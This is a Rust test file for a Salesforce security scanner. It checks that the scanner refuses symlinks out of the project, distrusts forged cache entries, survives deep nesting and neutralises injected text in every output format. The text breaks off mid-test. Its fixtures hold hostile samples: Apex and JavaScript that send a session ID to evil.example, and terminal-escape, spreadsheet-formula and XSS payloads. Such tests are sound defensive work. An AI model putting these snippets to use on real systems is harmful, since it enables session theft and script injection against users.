//! Hostile repositories: whatever a repository holds, sfsec ends in bounded time with a report
//! or a clear error, never follows a link out of the project, trusts no cache it did not write,
//! and lets no text of the repository act on the terminal or the reader of any output format.

use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use sfsec::testing::TempProject;

const BIN: &str = env!("CARGO_BIN_EXE_sfsec");
const NOW: &str = "2026-01-01";

/// Runs sfsec; a run that has not ended after `limit` is killed and fails the test as a hang
/// (the limit is far above any normal run: it catches hangs, it does not time anything).
fn run_within(cwd: &Path, args: &[&str], envs: &[(&str, &str)], limit: Duration) -> Output {
    let mut c = Command::new(BIN);
    c.args(args)
        .current_dir(cwd)
        .env_remove("CLICOLOR_FORCE")
        .env("NO_COLOR", "1")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    for (k, v) in envs {
        c.env(k, v);
    }
    let mut child = c.spawn().expect("run sfsec");
    // Read both pipes while waiting: a child that fills one would otherwise block for ever.
    let drain = |pipe: Option<Box<dyn std::io::Read + Send>>| {
        std::thread::spawn(move || {
            let mut buf = Vec::new();
            if let Some(mut p) = pipe {
                let _ = p.read_to_end(&mut buf);
            }
            buf
        })
    };
    let out = drain(
        child
            .stdout
            .take()
            .map(|p| Box::new(p) as Box<dyn std::io::Read + Send>),
    );
    let err = drain(
        child
            .stderr
            .take()
            .map(|p| Box::new(p) as Box<dyn std::io::Read + Send>),
    );
    let start = Instant::now();
    let status = loop {
        if let Some(status) = child.try_wait().expect("wait") {
            break status;
        }
        if start.elapsed() > limit {
            let _ = child.kill();
            let _ = child.wait();
            let err = err.join().unwrap_or_default();
            panic!(
                "sfsec {args:?} did not end within {limit:?} (hung); stderr: {}",
                String::from_utf8_lossy(&err)
            );
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    Output {
        status,
        stdout: out.join().expect("stdout"),
        stderr: err.join().expect("stderr"),
    }
}

fn sfsec(cwd: &Path, args: &[&str]) -> Output {
    run_within(cwd, args, &[], Duration::from_secs(120))
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn project(files: &[(&str, &[u8])]) -> TempProject {
    TempProject::new(files).expect("temp project")
}

fn app(name: &str, inner: &str) -> String {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<ConnectedApp xmlns=\"http://soap.sforce.com/2006/04/metadata\">\n    <label>{name}</label>\n{inner}\n</ConnectedApp>\n"
    )
}

/// A panic on a worker thread ends the run at once with exit 2 and a message, with one thread
/// or several; main's lock on standard error used to leave it waiting forever.
#[test]
fn a_panic_on_a_worker_ends_the_run_with_exit_2() {
    let classes: Vec<(String, String)> = (0..64)
        .map(|i| {
            (
                format!("force-app/main/default/classes/C{i}.cls"),
                format!("public class C{i} {{ }}"),
            )
        })
        .collect();
    let files: Vec<(&str, &[u8])> = classes.iter().map(|(p, t)| (p.as_str(), t.as_bytes())).collect();
    let p = project(&files);
    for threads in ["1", "2"] {
        for victim in ["C0", "C33", "C63"] {
            let rel = format!("force-app/main/default/classes/{victim}.cls");
            let o = run_within(
                p.path(),
                &["check", "--no-cache", "--now", NOW],
                &[("SFSEC_DEBUG_PANIC_ON", rel.as_str()), ("RAYON_NUM_THREADS", threads)],
                Duration::from_secs(60),
            );
            assert_eq!(o.status.code(), Some(2), "{threads} threads, {victim}: {}", stderr(&o));
            assert!(
                stderr(&o).contains("internal error, please report it") && stderr(&o).contains(&rel),
                "{}",
                stderr(&o)
            );
        }
    }
}

/// A finding far out on a line (minified or one-line metadata) renders, without a snippet,
/// instead of panicking in miette past column 65,535.
#[test]
fn a_finding_past_column_65535_renders_in_the_terminal() {
    let pad = " ".repeat(70_000);
    let inner = format!(
        "    <oauthConfig><callbackUrl>https://x.example/cb</callbackUrl>{pad}<scopes>Full</scopes></oauthConfig>"
    );
    let xml = app("Wide", &inner).replace('\n', "");
    let p = project(&[(
        "force-app/main/default/connectedApps/Wide.connectedApp-meta.xml",
        xml.as_bytes(),
    )]);
    for threads in ["1", "2"] {
        let o = run_within(
            p.path(),
            &["check", "--no-cache", "--now", NOW],
            &[("RAYON_NUM_THREADS", threads)],
            Duration::from_secs(60),
        );
        assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
        let out = stdout(&o);
        assert!(
            out.contains("Wide.connectedApp-meta.xml:1:70")
                && out.contains("oauth-broad-scope")
                && out.contains("requests the `Full` scope"),
            "{out}"
        );
        assert!(out.lines().all(|l| l.len() < 1000), "no line of the padding is printed");
    }
}

/// A report lost on its way to standard output (a full disk) is an error, not a silent pass.
#[test]
fn a_report_lost_on_standard_output_is_exit_2() {
    let p = project(&[(
        "force-app/main/default/connectedApps/A.connectedApp-meta.xml",
        app("A", "    <oauthConfig><scopes>Full</scopes></oauthConfig>").as_bytes(),
    )]);
    let full = std::fs::OpenOptions::new()
        .write(true)
        .open("/dev/full")
        .expect("/dev/full");
    for format in ["human", "json", "sarif"] {
        let o = Command::new(BIN)
            .args(["check", "--no-cache", "--now", NOW, "--format", format])
            .current_dir(p.path())
            .stdout(full.try_clone().expect("dup"))
            .stderr(Stdio::piped())
            .output()
            .expect("run");
        assert_eq!(o.status.code(), Some(2), "{format}: {}", stderr(&o));
        assert!(stderr(&o).contains("cannot write to standard output"), "{}", stderr(&o));
    }
    let o = Command::new(BIN)
        .arg("rules")
        .stdout(full)
        .stderr(Stdio::piped())
        .output()
        .expect("run");
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    // The same scans to a pipe that is read succeed.
    assert_eq!(
        sfsec(p.path(), &["check", "--no-cache", "--now", NOW]).status.code(),
        Some(1)
    );
}

fn json_findings(o: &Output) -> Vec<(String, String, String)> {
    let json: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json report");
    json["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .map(|f| {
            let s = |k: &str| f[k].as_str().unwrap_or("").to_string();
            (s("path"), s("rule"), s("message"))
        })
        .collect()
}

/// A secret only a followed link could print.
const OUTSIDE_SECRET: &str = "OUTSIDE_SECRET_d41d8cd98f00b204";

/// Links out of the project (a class, a folder, a package directory, a file given by name) are
/// findings that name the link, never what lies behind it; links inside it are followed.
#[test]
fn links_out_of_the_project_are_reported_not_followed() {
    use std::os::unix::fs::symlink;
    let outside = tempfile::tempdir().expect("temp");
    std::fs::write(
        outside.path().join("env.cls"),
        format!("public class Env {{ {OUTSIDE_SECRET} }}"),
    )
    .expect("w");
    std::fs::create_dir_all(outside.path().join("classes")).expect("mkdir");
    std::fs::write(outside.path().join("classes/Deep.cls"), OUTSIDE_SECRET).expect("w");
    let p = project(&[
        ("force-app/main/default/classes/Real.cls", b"public class Real { }"),
        ("shared/Inside.cls", b"public class Inside { }"),
    ]);
    std::fs::write(
        p.path().join("sfdx-project.json"),
        r#"{"packageDirectories":[{"path":"force-app","default":true},{"path":"linked-pkg"}]}"#,
    )
    .expect("w");
    let classes = p.path().join("force-app/main/default/classes");
    symlink(outside.path().join("env.cls"), classes.join("Env.cls")).expect("link");
    symlink("/proc/self/environ", classes.join("Environ.cls")).expect("link");
    symlink(outside.path(), p.path().join("force-app/main/default/staticresources")).expect("link");
    symlink(outside.path().join("classes"), p.path().join("linked-pkg")).expect("link");
    // A link inside the project is an ordinary alias.
    symlink(p.path().join("shared/Inside.cls"), classes.join("Alias.cls")).expect("link");

    let o = sfsec(p.path(), &["check", "--no-cache", "--now", NOW, "--format", "json"]);
    assert!(!stdout(&o).contains(OUTSIDE_SECRET) && !stderr(&o).contains(OUTSIDE_SECRET));
    assert!(!stdout(&o).contains("PATH="), "the environment was read");
    let found = json_findings(&o);
    let links: Vec<(&str, &str)> = found
        .iter()
        .filter(|f| f.1 == "link-outside-project")
        .map(|f| (f.0.as_str(), f.2.as_str()))
        .collect();
    let env = outside.path().join("env.cls");
    let env_message = format!(
        "symbolic link to `{}`, outside the project; not followed",
        env.display()
    );
    let dir_message = format!(
        "symbolic link to `{}`, outside the project; not followed",
        outside.path().display()
    );
    let pkg_message = format!(
        "symbolic link to `{}`, outside the project; not followed",
        outside.path().join("classes").display()
    );
    assert_eq!(
        links,
        [
            ("force-app/main/default/classes/Env.cls", env_message.as_str()),
            (
                "force-app/main/default/classes/Environ.cls",
                "symbolic link to `/proc/self/environ`, outside the project; not followed"
            ),
            ("force-app/main/default/staticresources", dir_message.as_str()),
            ("linked-pkg", pkg_message.as_str()),
        ]
    );
    assert!(found.iter().all(|f| f.1 == "link-outside-project"), "{found:?}");

    // The same link given by name, as pre-commit does.
    let o = sfsec(
        p.path(),
        &[
            "check",
            "--no-cache",
            "--now",
            NOW,
            "--format",
            "json",
            "force-app/main/default/classes/Env.cls",
            "force-app/main/default/classes/Alias.cls",
        ],
    );
    assert!(!stdout(&o).contains(OUTSIDE_SECRET));
    let found = json_findings(&o);
    assert_eq!(
        found.iter().map(|f| (f.0.as_str(), f.1.as_str())).collect::<Vec<_>>(),
        [("force-app/main/default/classes/Env.cls", "link-outside-project")]
    );
}

/// The files sfsec reads besides the sources (project file, configuration, `.forceignore`,
/// baseline) are not read through a link out of the project: exit 2 naming the file, and
/// nothing of the target printed.
#[test]
fn project_files_that_link_out_are_refused() {
    use std::os::unix::fs::symlink;
    let outside = tempfile::tempdir().expect("temp");
    let secret_file = outside.path().join("shadow");
    std::fs::write(&secret_file, format!("root:{OUTSIDE_SECRET}:19000:0:99999:7:::\n")).expect("w");
    for name in ["sfsec.toml", ".forceignore", "sfdx-project.json", "baseline.json"] {
        let p = project(&[("force-app/main/default/classes/A.cls", b"public class A { }")]);
        let _ = std::fs::remove_file(p.path().join(name));
        symlink(&secret_file, p.path().join(name)).expect("link");
        let mut args = vec!["check", "--no-cache", "--now", NOW];
        if name == "baseline.json" {
            args.extend(["--baseline", "baseline.json"]);
        }
        let o = sfsec(p.path(), &args);
        assert_eq!(o.status.code(), Some(2), "{name}: {}", stderr(&o));
        let err = stderr(&o);
        assert!(
            !err.contains(OUTSIDE_SECRET) && !stdout(&o).contains(OUTSIDE_SECRET),
            "{name}: {err}"
        );
        assert!(
            err.contains(name) && err.contains("symbolic link out of the project"),
            "{name}: {err}"
        );
    }
}

/// `--output` onto a link the repository holds: through it when it stays in the project,
/// refused when it leaves it or leads nowhere (the link and its target are left as they were).
#[test]
fn output_onto_a_link_out_of_the_project_or_nowhere_is_refused() {
    use std::os::unix::fs::symlink;
    let outside = tempfile::tempdir().expect("temp");
    let victim = outside.path().join("victim");
    std::fs::write(&victim, "keep").expect("w");
    let p = project(&[(
        "force-app/main/default/connectedApps/A.connectedApp-meta.xml",
        app("A", "    <oauthConfig><scopes>Full</scopes></oauthConfig>").as_bytes(),
    )]);
    symlink(&victim, p.path().join("out.sarif")).expect("link");
    symlink(outside.path().join("missing"), p.path().join("dangling.sarif")).expect("link");
    symlink("inside-missing.sarif", p.path().join("dangling-in.sarif")).expect("link");
    std::fs::write(p.path().join("real.sarif"), "old").expect("w");
    symlink("real.sarif", p.path().join("alias.sarif")).expect("link");
    for (target, refused) in [
        ("out.sarif", true),
        ("dangling.sarif", true),
        ("dangling-in.sarif", true),
        ("alias.sarif", false),
    ] {
        for command in ["check", "report", "inventory", "baseline"] {
            let mut args = vec![command, "--now", NOW, "-o", target];
            if command == "check" {
                args.extend(["--no-cache", "--format", "sarif"]);
            }
            let o = sfsec(p.path(), &args);
            if refused {
                assert_eq!(o.status.code(), Some(2), "{command} -o {target}: {}", stderr(&o));
                assert!(stderr(&o).contains("symbolic link"), "{}", stderr(&o));
            } else {
                assert!(
                    matches!(o.status.code(), Some(0 | 1)),
                    "{command} -o {target}: {}",
                    stderr(&o)
                );
            }
        }
        let meta = std::fs::symlink_metadata(p.path().join(target)).expect("still there");
        assert!(meta.file_type().is_symlink(), "{target} is still a link");
    }
    assert_eq!(std::fs::read_to_string(&victim).expect("victim"), "keep");
    assert!(!outside.path().join("missing").exists());
    assert!(!p.path().join("inside-missing.sarif").exists());
    assert_ne!(
        std::fs::read_to_string(p.path().join("real.sarif")).expect("real"),
        "old"
    );
}

/// Runs a scan with the cache, its key kept in `home` (as the user's cache folder).
fn cached_scan(p: &TempProject, home: &Path) -> Output {
    let home = home.to_str().expect("utf-8");
    run_within(
        p.path(),
        &["check", "--now", NOW, "--format", "json"],
        &[("XDG_CACHE_HOME", home), ("HOME", home)],
        Duration::from_secs(60),
    )
}

fn cache_entries(p: &TempProject) -> Vec<std::path::PathBuf> {
    let mut v: Vec<_> = std::fs::read_dir(p.path().join(".sfsec_cache"))
        .map(|d| {
            d.flatten()
                .map(|e| e.path())
                .filter(|p| p.file_name().is_some_and(|n| n.to_string_lossy().starts_with("scan-")))
                .collect()
        })
        .unwrap_or_default();
    v.sort();
    v
}

const CACHED: &str = "cached result";

/// The cache folder is the repository's: a forged, edited or foreign entry, a link to a
/// device, a FIFO, a linked folder or a linked `.gitignore` never changes the report, never
/// hangs, and never makes sfsec write outside the project.
#[test]
fn the_cache_is_untrusted_input() {
    use std::os::unix::fs::symlink;
    let p = project(&[
        (
            "force-app/main/default/connectedApps/A.connectedApp-meta.xml",
            app("A", "    <oauthConfig><scopes>Full</scopes></oauthConfig>").as_bytes(),
        ),
        ("force-app/main/default/classes/B.cls", b"public class B { }"),
    ]);
    let truth = sfsec(p.path(), &["check", "--no-cache", "--now", NOW, "--format", "json"]);
    assert_eq!(truth.status.code(), Some(1));
    let home = tempfile::tempdir().expect("home");
    let other_machine = tempfile::tempdir().expect("home");

    // Written, then read back.
    let first = cached_scan(&p, home.path());
    assert_eq!(first.stdout, truth.stdout);
    let second = cached_scan(&p, home.path());
    assert!(stderr(&second).contains(CACHED), "{}", stderr(&second));
    assert_eq!(second.stdout, truth.stdout);
    let entry = cache_entries(&p).pop().expect("an entry");
    let good = std::fs::read(&entry).expect("entry");

    // Edited: a finding's message changed and another hidden, the signature line kept.
    let text = String::from_utf8(good.clone()).expect("utf-8");
    let forged = text.replace("requests the `Full` scope", "FORGED");
    assert_ne!(forged, text);
    std::fs::write(&entry, &forged).expect("w");
    let o = cached_scan(&p, home.path());
    assert!(
        !stderr(&o).contains(CACHED) && o.stdout == truth.stdout,
        "{}",
        stdout(&o)
    );

    // Signed on another machine (another key), as a committed entry would be.
    let foreign = cached_scan(&p, other_machine.path());
    assert_eq!(foreign.stdout, truth.stdout);
    let o = cached_scan(&p, home.path());
    assert!(!stderr(&o).contains(CACHED) && o.stdout == truth.stdout);

    // An entry in the old, unsigned format that claims no findings.
    let (_, json) = text.split_once('\n').expect("two parts");
    let mut unsigned: serde_json::Value = serde_json::from_str(json).expect("json");
    unsigned["format"] = 1.into();
    unsigned["findings"] = serde_json::json!([]);
    std::fs::write(&entry, serde_json::to_vec(&unsigned).expect("json")).expect("w");
    let o = cached_scan(&p, home.path());
    assert!(!stderr(&o).contains(CACHED) && o.stdout == truth.stdout);

    // A link to an endless device, and a FIFO with no writer: a miss, at once.
    for make in ["zero", "fifo"] {
        let _ = std::fs::remove_file(&entry);
        if make == "zero" {
            symlink("/dev/zero", &entry).expect("link");
        } else {
            let ok = Command::new("mkfifo").arg(&entry).status().expect("mkfifo");
            assert!(ok.success());
        }
        let o = cached_scan(&p, home.path());
        assert!(!stderr(&o).contains(CACHED) && o.stdout == truth.stdout, "{make}");
    }

    // A linked `.gitignore` (dangling) and a linked cache folder: nothing written through them.
    let outside = tempfile::tempdir().expect("outside");
    std::fs::remove_dir_all(p.path().join(".sfsec_cache")).expect("rm");
    std::fs::create_dir(p.path().join(".sfsec_cache")).expect("mkdir");
    symlink(outside.path().join("planted"), p.path().join(".sfsec_cache/.gitignore")).expect("link");
    let o = cached_scan(&p, home.path());
    assert_eq!(o.stdout, truth.stdout);
    std::fs::remove_dir_all(p.path().join(".sfsec_cache")).expect("rm");
    symlink(outside.path(), p.path().join(".sfsec_cache")).expect("link");
    for _ in 0..2 {
        let o = cached_scan(&p, home.path());
        assert!(!stderr(&o).contains(CACHED) && o.stdout == truth.stdout);
    }
    let written: Vec<_> = std::fs::read_dir(outside.path()).expect("dir").flatten().collect();
    assert!(written.is_empty(), "{written:?}");

    // The key is the user's alone.
    use std::os::unix::fs::PermissionsExt;
    let key = home.path().join("sfsec/cache-key");
    let mode = std::fs::metadata(&key).expect("key").permissions().mode();
    assert_eq!(mode & 0o077, 0, "{mode:o}");
}

/// Sources nested past the analysis depth: each is an `analysis-limit` finding where it
/// passes the limit, and the scan goes on; just under it, the analyses run (and find the
/// session ID sent out) without overflowing a stack. Each of these aborted the scan before.
#[test]
fn deep_nesting_is_a_finding_not_a_stack_overflow() {
    const SINK: &str =
        "HttpRequest r = new HttpRequest(); r.setEndpoint('https://evil.example'); r.setBody(s); new Http().send(r);\n";
    let sources = |n: usize| -> Vec<(String, String)> {
        let c = "force-app/main/default/classes";
        vec![
            (
                format!("{c}/Ifs.cls"),
                format!(
                    "public class Ifs {{\n public void m(Boolean b) {{\n String s = UserInfo.getSessionId();\n{}{SINK}{}}}\n}}\n",
                    "if (b) {\n".repeat(n / 2),
                    "}\n".repeat(n / 2)
                ),
            ),
            (
                format!("{c}/Parens.cls"),
                format!(
                    "public class Parens {{\n public void m() {{\n String s = {}UserInfo.getSessionId(){};\n{SINK}}}\n}}\n",
                    "(".repeat(n),
                    ")".repeat(n)
                ),
            ),
            (
                format!("{c}/Plus.cls"),
                format!(
                    "public class Plus {{\n public void m() {{\n String s = UserInfo.getSessionId(){};\n{SINK}}}\n}}\n",
                    " + 'a'".repeat(n)
                ),
            ),
            (
                format!("{c}/Nested.cls"),
                format!(
                    "{}{}",
                    (0..n / 2)
                        .map(|i| format!("public class N{i} {{\n"))
                        .collect::<String>(),
                    "}\n".repeat(n / 2)
                ),
            ),
            (
                "force-app/main/default/pages/Braces.page".to_string(),
                format!(
                    "<apex:page>\n<script>\nvar s = \"{{!$Api.Session_ID}}\";\n{}fetch(\"https://x.example/?s=\" + s);{}\n</script>\n</apex:page>\n",
                    "{".repeat(n),
                    "}".repeat(n)
                ),
            ),
        ]
    };
    // Just under the limit (2,000 levels; an `if` and a nested class take two).
    let under = sources(1_960);
    let files: Vec<(&str, &[u8])> = under.iter().map(|(p, t)| (p.as_str(), t.as_bytes())).collect();
    let p = project(&files);
    let o = sfsec(p.path(), &["check", "--no-cache", "--now", NOW, "--format", "json"]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let found = json_findings(&o);
    let flows: Vec<&str> = found
        .iter()
        .filter(|f| f.1 == "session-id-to-external")
        .map(|f| f.0.as_str())
        .collect();
    assert_eq!(
        flows,
        [
            "force-app/main/default/classes/Ifs.cls",
            "force-app/main/default/classes/Parens.cls",
            "force-app/main/default/classes/Plus.cls",
            "force-app/main/default/pages/Braces.page"
        ],
        "{found:?}"
    );
    assert!(found.iter().all(|f| f.1 != "analysis-limit"), "{found:?}");

    // Far past it: one finding per file, nothing else from them.
    let over = sources(12_000);
    let mut files: Vec<(&str, &[u8])> = over.iter().map(|(p, t)| (p.as_str(), t.as_bytes())).collect();
    let scratch = format!(
        "{{\"orgName\": \"x\", \"settings\": {}{}}}",
        "[".repeat(20_000),
        "]".repeat(20_000)
    );
    files.push(("config/project-scratch-def.json", scratch.as_bytes()));
    let p = project(&files);
    let o = sfsec(p.path(), &["check", "--no-cache", "--now", NOW, "--format", "json"]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let found = json_findings(&o);
    let apex = "this Apex nests deeper than 2000 levels; the file is not analysed";
    let script = "this JavaScript nests deeper than 2000 levels; the file is not analysed";
    let got: Vec<(&str, &str, &str)> = found
        .iter()
        .map(|f| (f.0.as_str(), f.1.as_str(), f.2.as_str()))
        .collect();
    assert_eq!(
        got,
        [
            (
                "config/project-scratch-def.json",
                "invalid-metadata",
                "malformed JSON: nested deeper than 256 levels"
            ),
            ("force-app/main/default/classes/Ifs.cls", "analysis-limit", apex),
            ("force-app/main/default/classes/Nested.cls", "analysis-limit", apex),
            ("force-app/main/default/classes/Parens.cls", "analysis-limit", apex),
            ("force-app/main/default/classes/Plus.cls", "analysis-limit", apex),
            ("force-app/main/default/pages/Braces.page", "analysis-limit", script),
        ]
    );

    // The project file itself: a clear error, exit 2.
    let p = project(&[]);
    let deep = format!(
        "{{\"packageDirectories\": [{{\"path\": \"force-app\"}}], \"x\": {}{}}}",
        "[".repeat(18_163),
        "]".repeat(18_163)
    );
    std::fs::write(p.path().join("sfdx-project.json"), deep).expect("w");
    let o = sfsec(p.path(), &["check", "--no-cache"]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(stderr(&o).contains("sfdx-project.json:1:") && stderr(&o).contains("nested deeper than 256 levels"));
}

/// Text a repository chooses, carrying every class of hostile character: terminal escapes,
/// bell, carriage return, bidirectional override, C1 control, spreadsheet formulas, HTML,
/// Markdown links and images, backticks.
const HOSTILE: &str = "\u{1b}[2J\u{1b}]0;pwned\u{7}\r\u{202e}\u{9b}31m =HYPERLINK(\"http://evil.example\",\"x\") <img src=x onerror=alert(1)> <script>alert(1)</script> [click](javascript:alert(1)) ![i](https://evil.example/i.png) `tick";

/// Whether `c` must not appear raw in an output.
fn control(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t')
        || ('\u{202a}'..='\u{202e}').contains(&c)
        || ('\u{2066}'..='\u{2069}').contains(&c)
}

fn hostile_project() -> TempProject {
    // A file name with the hostile text (no `/`, no NUL), an app label and an Apex literal and
    // suppression reason with it.
    let name: String = HOSTILE.replace('/', "_");
    let app_path = format!("force-app/main/default/connectedApps/{name}.connectedApp-meta.xml");
    let xml_text = quick_xml::escape::escape(HOSTILE).into_owned();
    let label = app(
        &xml_text,
        "    <oauthConfig><scopes>Full</scopes><callbackUrl>http://evil.example/cb</callbackUrl></oauthConfig>",
    );
    let class = format!(
        "public class Hostile {{\n    // sfsec-ignore-file hardcoded-secret: {}\n    String password = 'Sup3rS3cret!{}';\n    void m() {{ HttpRequest r = new HttpRequest(); r.setEndpoint('https://evil.example/{}'); r.setHeader('Authorization', 'Bearer ' + UserInfo.getSessionId()); new Http().send(r); }}\n}}\n",
        HOSTILE.replace(['\r', '\n'], " "),
        HOSTILE.replace(['\'', '\r', '\n'], " "),
        HOSTILE.replace(['\'', '\r', '\n'], " ")
    );
    let class_path = format!("force-app/main/default/classes/{}.cls", "Hostile");
    project(&[
        (app_path.as_str(), label.as_bytes()),
        (class_path.as_str(), class.as_bytes()),
        (
            "force-app/main/default/classes/Hostile.cls-meta.xml",
            b"<ApexClass><apiVersion>62.0</apiVersion></ApexClass>",
        ),
    ])
}

/// Every format renders the hostile corpus with no control character, no formula, no markup
/// and no link from the project's text, as each format's own reader sees it.
#[test]
fn hostile_text_is_inert_in_every_output() {
    let p = hostile_project();
    let mut outputs: Vec<(String, String)> = Vec::new();
    for format in ["human", "concise", "grouped", "json", "sarif", "github", "junit", "csv"] {
        let o = sfsec(
            p.path(),
            &[
                "check",
                "--no-cache",
                "--now",
                NOW,
                "--format",
                format,
                "--show-suppressed",
            ],
        );
        assert_eq!(o.status.code(), Some(1), "{format}: {}", stderr(&o));
        outputs.push((format!("check {format}"), stdout(&o)));
        outputs.push((format!("check {format} (stderr)"), stderr(&o)));
    }
    for (command, format) in [
        ("report", "html"),
        ("report", "markdown"),
        ("inventory", "markdown"),
        ("inventory", "json"),
    ] {
        let o = sfsec(p.path(), &[command, "--now", NOW, "--format", format]);
        assert_eq!(o.status.code(), Some(0), "{command} {format}: {}", stderr(&o));
        outputs.push((format!("{command} {format}"), stdout(&o)));
    }
    for (what, text) in &outputs {
        let bad: Vec<(usize, char)> = text.char_indices().filter(|&(_, c)| control(c)).take(3).collect();
        assert!(bad.is_empty(), "{what} holds control characters {bad:?}");
    }
    let get = |what: &str| {
        outputs
            .iter()
            .find(|(w, _)| w == what)
            .map(|(_, t)| t.as_str())
            .expect(what)
    };

    // The findings are there, with the hostile text in them (escaped).
    let human = get("check human");
    assert!(
        human.contains("oauth-broad-scope") && human.contains("\\u{1b}[2J"),
        "{human}"
    );

    // Concise: one line per finding, whatever the file names and messages hold.
    let concise = get("check concise");
    let findings = concise.split("\n\n").next().unwrap_or("");
    assert!(findings.lines().count() >= 2, "{concise}");
    for line in findings.lines() {
        let at = line
            .find(": error[")
            .or(line.find(": warning["))
            .or(line.find(": note["));
        assert!(at.is_some(), "not one finding per line: {line:?}");
    }

    // JUnit: well-formed XML 1.0 that a parser reads whole.
    let junit = get("check junit");
    let mut reader = quick_xml::Reader::from_str(junit);
    let mut failures = 0;
    loop {
        match reader.read_event() {
            Ok(quick_xml::events::Event::Eof) => break,
            Ok(quick_xml::events::Event::Start(e)) if e.name().as_ref() == b"failure" => failures += 1,
            Ok(_) => {}
            Err(e) => panic!("JUnit is not well-formed at {}: {e}", reader.buffer_position()),
        }
    }
    assert!(failures >= 2, "{junit}");

    // CSV: every row parses, and no cell starts as a formula.
    let mut rows = csv::Reader::from_reader(get("check csv").as_bytes());
    let mut n = 0;
    for row in rows.records() {
        let row = row.expect("a CSV row");
        n += 1;
        for cell in row.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "formula cell {cell:?}"
            );
        }
    }
    assert!(n >= 2);

    // The HTML report: no element, attribute or link from the project.
    let html = scraper::Html::parse_document(get("report html"));
    let sel = |s: &str| scraper::Selector::parse(s).expect("selector");
    for tag in ["img", "iframe", "object", "embed"] {
        assert_eq!(html.select(&sel(tag)).count(), 0, "<{tag}> in the report");
    }
    assert_eq!(html.select(&sel("script")).count(), 1, "only the report's own script");
    for el in html.select(&sel("*")) {
        for (name, value) in el.value().attrs() {
            assert!(!name.starts_with("on"), "{name}={value}");
            assert!(
                !value.contains("javascript:") && !value.contains("evil.example"),
                "{name}={value}"
            );
        }
    }
    let text: String = html.root_element().text().collect();
    assert!(text.contains("onerror=alert(1)") && text.contains("[click](javascript:alert(1))"));

    // Markdown: no HTML, image, or link made of project text.
    for what in ["report markdown", "inventory markdown"] {
        let md = get(what);
        for e in pulldown_cmark::Parser::new_ext(md, pulldown_cmark::Options::ENABLE_TABLES) {
            match e {
                pulldown_cmark::Event::Html(h) | pulldown_cmark::Event::InlineHtml(h) => panic!("{what}: HTML {h}"),
                pulldown_cmark::Event::Start(pulldown_cmark::Tag::Image { dest_url, .. }) => {
                    panic!("{what}: image {dest_url}")
                }
                pulldown_cmark::Event::Start(pulldown_cmark::Tag::Link { dest_url, .. }) => {
                    assert!(
                        !dest_url.contains("evil") && !dest_url.contains("javascript"),
                        "{what}: link {dest_url}"
                    )
                }
                _ => {}
            }
        }
    }
}

/// GitHub annotations: `%`, CR, LF, `:` and `,` are encoded as the runner decodes them, so a
/// message cannot end its command or start another.
#[test]
fn github_annotations_cannot_be_split_or_forged() {
    let p = hostile_project();
    let o = sfsec(p.path(), &["check", "--no-cache", "--now", NOW, "--format", "github"]);
    let out = stdout(&o);
    assert!(!out.is_empty());
    for line in out.lines() {
        assert!(
            line.starts_with("::error ") || line.starts_with("::warning ") || line.starts_with("::notice "),
            "{line}"
        );
        let (props, _message) = line
            .split_once("::")
            .and_then(|(_, rest)| rest.split_once("::"))
            .expect("command");
        let file = props
            .split(' ')
            .nth(1)
            .and_then(|p| p.split(',').next())
            .expect("file property");
        assert!(!file.contains(':') || file.starts_with("file="), "{file}");
        assert!(!line.contains('\r'));
    }
    let app_line = out
        .lines()
        .find(|l| l.contains("oauth-broad-scope"))
        .expect("app finding");
    assert!(app_line.contains("%3A") && app_line.contains("%2C"), "{app_line}");
}

/// `--config` on a FIFO ends at once with exit 2; a byte-order mark is read past in the
/// configuration, the project file, a baseline and a scratch definition (which keeps its
/// findings); an empty rule table is an error at its line.
#[test]
fn config_fifos_byte_order_marks_and_empty_tables() {
    const BOM: &str = "\u{feff}";
    let scratch = "{\"orgName\": \"x\", \"settings\": {\"oauthOidcSettings\": {\"enableOAuthUserAgentFlow\": true}}}";
    let p = project(&[
        ("config/project-scratch-def.json", scratch.as_bytes()),
        (
            "force-app/main/default/connectedApps/A.connectedApp-meta.xml",
            app("A", "    <oauthConfig><scopes>Full</scopes></oauthConfig>").as_bytes(),
        ),
    ]);
    let plain = sfsec(p.path(), &["check", "--no-cache", "--now", NOW, "--format", "json"]);
    let expected = json_findings(&plain);
    assert!(
        expected.iter().any(|f| f.0 == "config/project-scratch-def.json"),
        "{expected:?}"
    );

    // A FIFO with no writer.
    let fifo = p.path().join("fifo.toml");
    assert!(Command::new("mkfifo").arg(&fifo).status().expect("mkfifo").success());
    let o = sfsec(p.path(), &["check", "--no-cache", "--config", "fifo.toml"]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("fifo.toml") && stderr(&o).contains("not a regular file"),
        "{}",
        stderr(&o)
    );
    std::fs::remove_file(&fifo).expect("rm");

    // Byte-order marks everywhere: the same findings.
    let with_bom = |rel: &str| {
        let path = p.path().join(rel);
        let text = std::fs::read_to_string(&path).expect("read");
        std::fs::write(&path, format!("{BOM}{text}")).expect("w");
    };
    std::fs::write(p.path().join("sfsec.toml"), "fail-on = \"warning\"\n").expect("w");
    for rel in ["config/project-scratch-def.json", "sfdx-project.json", "sfsec.toml"] {
        with_bom(rel);
    }
    let o = sfsec(p.path(), &["check", "--no-cache", "--now", NOW, "--format", "json"]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert_eq!(json_findings(&o), expected);
    let o = sfsec(p.path(), &["baseline", "--now", NOW]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    with_bom(".sfsec-baseline.json");
    let o = sfsec(
        p.path(),
        &[
            "check",
            "--no-cache",
            "--now",
            NOW,
